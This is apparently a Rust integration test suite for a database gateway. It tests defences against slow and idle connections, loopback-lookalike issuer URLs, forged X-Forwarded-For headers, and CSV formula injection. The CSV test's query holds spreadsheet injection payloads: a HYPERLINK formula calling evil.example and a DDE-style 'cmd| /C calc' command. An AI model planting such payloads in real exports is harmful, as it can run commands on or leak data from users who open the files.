//! Attacks on the gateway's front door (issue 11, items 12 and 13), against
//! the real binary: idle tunnels and slow HTTP clients holding sockets, a
//! plain-http issuer that only looks like loopback, a forged
//! `X-Forwarded-For`, and spreadsheet formulas in CSV output.

mod support;

use std::io::{Read, Write};
use std::process::Command;
use std::time::{Duration, Instant};

use futures_util::StreamExt;
use serde_json::json;
use support::*;
use tokio_tungstenite::tungstenite::client::IntoClientRequest;
use tokio_tungstenite::tungstenite::Message;

/// A gateway whose `[server]` table also has `server_keys`.
fn start(server_keys: &str) -> Gateway {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("recordings");
    let text = config(&store, "").replacen("[server]\n", &format!("[server]\n{server_keys}\n"), 1);
    Gateway::start_with(dir, &text, store)
}

type Ws =
    tokio_tungstenite::WebSocketStream<tokio_tungstenite::MaybeTlsStream<tokio::net::TcpStream>>;

/// Opens `/v1/tunnel/pg` as alice with extra headers; returns the socket and its audit id.
async fn open_tunnel(gw: &Gateway, headers: &[(&str, &str)]) -> (Ws, String) {
    let mut req = format!("ws://{}/v1/tunnel/pg", gw.addr)
        .into_client_request()
        .unwrap();
    let h = req.headers_mut();
    h.insert(
        "authorization",
        format!("Bearer {}", token("alice@example.com"))
            .parse()
            .unwrap(),
    );
    for (k, v) in headers {
        let name = tokio_tungstenite::tungstenite::http::HeaderName::from_bytes(k.as_bytes());
        h.append(name.unwrap(), v.parse().unwrap());
    }
    let (ws, resp) = tokio_tungstenite::connect_async(req).await.unwrap();
    let audit = resp.headers()["x-custody-audit-id"]
        .to_str()
        .unwrap()
        .to_string();
    (ws, audit)
}

/// Waits (bounded) for the gateway's close frame; its reason.
async fn close_reason(ws: &mut Ws, within: Duration) -> Option<String> {
    let deadline = tokio::time::Instant::now() + within;
    loop {
        match tokio::time::timeout_at(deadline, ws.next()).await {
            Ok(Some(Ok(Message::Close(f)))) => {
                return Some(f.map(|f| f.reason.to_string()).unwrap_or_default())
            }
            Ok(Some(Ok(_))) => {}
            Ok(Some(Err(_)) | None) => return Some(String::new()),
            Err(_) => return None,
        }
    }
}

/// One recording, once its session has ended (bounded wait).
fn sealed_recording(gw: &Gateway, audit: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let rec = gw.recording(audit);
        if rec.contains("\"session_end\"") || Instant::now() > deadline {
            return rec;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn idle_tunnels_are_closed_after_startup_timeout() {
    let gw = start(r#"startup_timeout = "1s""#);
    let opened = Instant::now();
    let mut tunnels = Vec::new();
    for _ in 0..200 {
        tunnels.push(open_tunnel(&gw, &[]).await);
    }
    let closes = futures_util::future::join_all(
        tunnels
            .iter_mut()
            .map(|(ws, _)| close_reason(ws, Duration::from_secs(15))),
    )
    .await;
    let elapsed = opened.elapsed();
    for (reason, (_, audit)) in closes.iter().zip(&tunnels) {
        let reason = reason
            .as_deref()
            .unwrap_or_else(|| panic!("tunnel {audit} still open after {elapsed:?}"));
        assert!(reason.contains("no startup packet within 1s"), "{reason}");
        assert!(reason.contains("startup_timeout"), "{reason}");
    }
    // Every one of them left an audit record saying why it ended.
    let (_, audit) = &tunnels[199];
    let rec = sealed_recording(&gw, audit);
    assert!(
        rec.contains("no startup packet within 1s ([server] startup_timeout)"),
        "{rec}"
    );
    // A client that does send its startup in time is served as before.
    let (c, addr) = gw.connect("pg", &token("alice@example.com"));
    let pg = pg_client(addr).await;
    let rows = pg.simple_query("select 1").await.unwrap();
    assert!(rows.len() >= 2);
    drop(c);
}

/// True when the gateway closed the socket within `within`.
fn dropped_within(s: &mut std::net::TcpStream, within: Duration) -> bool {
    s.set_read_timeout(Some(within)).unwrap();
    let mut buf = [0u8; 512];
    loop {
        match s.read(&mut buf) {
            Ok(0) => return true,
            Ok(_) => continue,
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => return true,
            Err(_) => return false,
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn slow_header_clients_are_dropped() {
    let gw = start(r#"header_read_timeout = "1s""#);

    // Opens TCP and never says a word.
    let mut silent = std::net::TcpStream::connect(gw.addr).unwrap();
    // Sends a request line, then one header byte every 200 ms.
    let mut slow = std::net::TcpStream::connect(gw.addr).unwrap();
    slow.write_all(b"GET /healthz HTTP/1.1\r\n").unwrap();
    let started = Instant::now();
    let mut trickle = slow.try_clone().unwrap();
    let writer = std::thread::spawn(move || {
        for b in b"X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa".iter() {
            if trickle.write_all(&[*b]).is_err() {
                return;
            }
            std::thread::sleep(Duration::from_millis(200));
        }
    });
    assert!(
        dropped_within(&mut silent, Duration::from_secs(5)),
        "a silent connection is still open after {:?}",
        started.elapsed()
    );
    assert!(
        dropped_within(&mut slow, Duration::from_secs(5)),
        "a slow-header connection is still open after {:?}",
        started.elapsed()
    );
    assert!(started.elapsed() < Duration::from_secs(5));
    let _ = writer.join();

    // Ordinary requests still work, and a tunnel outlives the header timeout.
    assert!(http_ok(&format!("{}/healthz", gw.url)));
    let (_cli, addr) = gw.connect("pg", &token("alice@example.com"));
    let pg = pg_client(addr).await;
    tokio::time::sleep(Duration::from_millis(2500)).await;
    let rows = pg.simple_query("select 41 + 1").await.unwrap();
    assert!(
        matches!(&rows[1], tokio_postgres::SimpleQueryMessage::Row(r) if r.get(0) == Some("42"))
    );
}

#[test]
fn plain_http_issuer_that_only_looks_like_loopback_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let good = config(&dir.path().join("rec"), "");
    let real = format!("issuer = \"{}\"", issuer().url);
    assert!(good.contains(&real));
    for evil in [
        "http://127.0.0.1.evil.example/",
        "http://127.0.0.1:80@evil.example/",
        "http://localhost.evil.example/",
    ] {
        let path = dir.path().join("evil.toml");
        std::fs::write(&path, good.replace(&real, &format!("issuer = \"{evil}\""))).unwrap();
        let out = Command::new(bin())
            .args(["config", "check"])
            .arg(&path)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{evil} accepted: {err}");
        assert!(
            err.contains("plain http") && err.contains("not a loopback address"),
            "{evil}: {err}"
        );
    }
}

/// POST /v1/exec/pg as alice with extra headers; (status, audit id, body).
async fn exec(gw: &Gateway, sql: &str, headers: &[(&str, &str)]) -> (u16, String, String) {
    let mut req = reqwest::Client::new()
        .post(format!("{}/v1/exec/pg", gw.url))
        .bearer_auth(token("alice@example.com"))
        .json(&json!({ "input": sql }));
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let resp = req.send().await.unwrap();
    let status = resp.status().as_u16();
    let audit = resp.headers()["x-custody-audit-id"]
        .to_str()
        .unwrap()
        .to_string();
    (status, audit, resp.text().await.unwrap())
}

#[tokio::test(flavor = "multi_thread")]
async fn forwarded_for_from_an_untrusted_peer_is_not_recorded() {
    let gw = start("");
    for forged in ["203.0.113.99 (forged-by-alice)", "203.0.113.99"] {
        let (status, audit, body) = exec(&gw, "select 1", &[("x-forwarded-for", forged)]).await;
        assert_eq!(status, 200, "{body}");
        let rec = sealed_recording(&gw, &audit);
        assert!(!rec.contains("203.0.113.99"), "{forged} recorded: {rec}");
        assert!(rec.contains("\"client_addr\":\"127.0.0.1\""), "{rec}");
        assert!(rec.contains("\"peer\":\"127.0.0.1:"), "{rec}");
    }
    // The tunnel path records the same way.
    let (mut ws, audit) = open_tunnel(
        &gw,
        &[("x-forwarded-for", "203.0.113.99 (forged-by-alice)")],
    )
    .await;
    let _ = ws.close(None).await;
    let rec = sealed_recording(&gw, &audit);
    assert!(!rec.contains("203.0.113.99"), "{rec}");
    assert!(rec.contains("\"peer\":\"127.0.0.1:"), "{rec}");
    assert!(!gw.proc.log().contains("forged-by-alice"));
}

#[tokio::test(flavor = "multi_thread")]
async fn trusted_proxy_forwarded_client_is_recorded_with_the_peer() {
    let gw = start(r#"trusted_proxies = ["127.0.0.1", "10.0.0.0/8"]"#);
    // A spoofed entry, the real client, an inner proxy; the peer is the outer proxy.
    let chain = "6.6.6.6, 203.0.113.7, 10.1.2.3";
    let (status, audit, body) = exec(&gw, "select 1", &[("x-forwarded-for", chain)]).await;
    assert_eq!(status, 200, "{body}");
    let rec = sealed_recording(&gw, &audit);
    assert!(rec.contains("\"client_addr\":\"203.0.113.7\""), "{rec}");
    assert!(rec.contains("\"peer\":\"127.0.0.1:"), "{rec}");
    assert!(!rec.contains("6.6.6.6"), "{rec}");

    // Not an IP: the walk stops at the trusted peer, the text is never recorded.
    let forged = "203.0.113.99 (forged-by-alice)";
    let (_, audit, _) = exec(&gw, "select 1", &[("x-forwarded-for", forged)]).await;
    let rec = sealed_recording(&gw, &audit);
    assert!(
        !rec.contains("forged-by-alice") && !rec.contains("203.0.113.99"),
        "{rec}"
    );
    assert!(rec.contains("\"client_addr\":\"127.0.0.1\""), "{rec}");

    let (mut ws, audit) = open_tunnel(&gw, &[("x-forwarded-for", "198.51.100.4")]).await;
    let _ = ws.close(None).await;
    let rec = sealed_recording(&gw, &audit);
    assert!(rec.contains("\"client_addr\":\"198.51.100.4\""), "{rec}");
}

const FORMULAS: &str = r#"select '=HYPERLINK("http://evil.example/?x","click")' as a, '+1+1' as b, '-2+3+cmd|'' /C calc''!A0' as c, '@SUM(1)' as "=d", -5 as e, 'ok' as f"#;
const NEUTRALISED: &str = "a,b,c,'=d,e,f\n\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"click\"\")\",'+1+1,'-2+3+cmd|' /C calc'!A0,'@SUM(1),-5,ok\n";

#[tokio::test(flavor = "multi_thread")]
async fn csv_formula_cells_are_neutralised() {
    let gw = start("");
    let (status, _, body) = exec(&gw, FORMULAS, &[("accept", "text/csv")]).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body, NEUTRALISED);

    let out = Command::new(bin())
        .args([
            "exec",
            "pg",
            "--gateway",
            &gw.url,
            "--format",
            "csv",
            "--",
            FORMULAS,
        ])
        .env("CUSTODY_TOKEN", token("alice@example.com"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout), NEUTRALISED);
}

/// An OTLP http/protobuf receiver: every span's name and string attributes.
async fn span_receiver() -> (
    String,
    std::sync::Arc<std::sync::Mutex<Vec<(String, Vec<(String, String)>)>>>,
) {
    use opentelemetry_proto::tonic::collector::trace::v1::ExportTraceServiceRequest;
    use opentelemetry_proto::tonic::common::v1::any_value::Value;
    use prost::Message as _;
    type Got = std::sync::Arc<std::sync::Mutex<Vec<(String, Vec<(String, String)>)>>>;
    async fn traces(
        axum::extract::State(got): axum::extract::State<Got>,
        body: axum::body::Bytes,
    ) -> axum::http::StatusCode {
        let Ok(req) = ExportTraceServiceRequest::decode(body) else {
            return axum::http::StatusCode::BAD_REQUEST;
        };
        let mut out = got.lock().unwrap();
        for s in req
            .resource_spans
            .into_iter()
            .flat_map(|r| r.scope_spans)
            .flat_map(|s| s.spans)
        {
            let attrs = s
                .attributes
                .iter()
                .map(|kv| {
                    let v = match kv.value.as_ref().and_then(|v| v.value.as_ref()) {
                        Some(Value::StringValue(s)) => s.clone(),
                        Some(Value::IntValue(i)) => i.to_string(),
                        other => format!("{other:?}"),
                    };
                    (kv.key.clone(), v)
                })
                .collect();
            out.push((s.name, attrs));
        }
        axum::http::StatusCode::OK
    }
    let got = Got::default();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let app = axum::Router::new()
        .route("/v1/traces", axum::routing::post(traces))
        .with_state(got.clone());
    tokio::spawn(async move { axum::serve(listener, app).await });
    (url, got)
}

#[tokio::test(flavor = "multi_thread")]
async fn session_span_names_the_peer_not_a_forged_client() {
    let (endpoint, got) = span_receiver().await;
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("recordings");
    let gw = Gateway::start_env(
        dir,
        &config(&store, ""),
        store,
        &[
            ("OTEL_EXPORTER_OTLP_ENDPOINT", endpoint.as_str()),
            ("OTEL_EXPORTER_OTLP_PROTOCOL", "http/protobuf"),
            ("OTEL_BSP_SCHEDULE_DELAY", "100"),
        ],
    );
    let forged = "203.0.113.99 (forged-by-alice)";
    let (status, audit, body) = exec(&gw, "select 1", &[("x-forwarded-for", forged)]).await;
    assert_eq!(status, 200, "{body}");
    let deadline = Instant::now() + Duration::from_secs(20);
    let attrs = loop {
        let spans = got.lock().unwrap().clone();
        let session = spans.into_iter().find(|(name, attrs)| {
            name == "custody.session"
                && attrs
                    .iter()
                    .any(|(k, v)| k == "custody.audit_id" && *v == audit)
        });
        if let Some((_, attrs)) = session {
            break attrs;
        }
        assert!(Instant::now() < deadline, "no session span for {audit}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    let get = |key: &str| {
        attrs
            .iter()
            .find(|(k, _)| k == key)
            .map(|(_, v)| v.clone())
            .unwrap_or_else(|| panic!("no {key} in {attrs:?}"))
    };
    assert_eq!(get("client.address"), "127.0.0.1");
    assert_eq!(get("network.peer.address"), "127.0.0.1");
    assert!(get("network.peer.port").parse::<u16>().is_ok());
    assert!(
        !attrs.iter().any(|(_, v)| v.contains("203.0.113.99")),
        "{attrs:?}"
    );
}
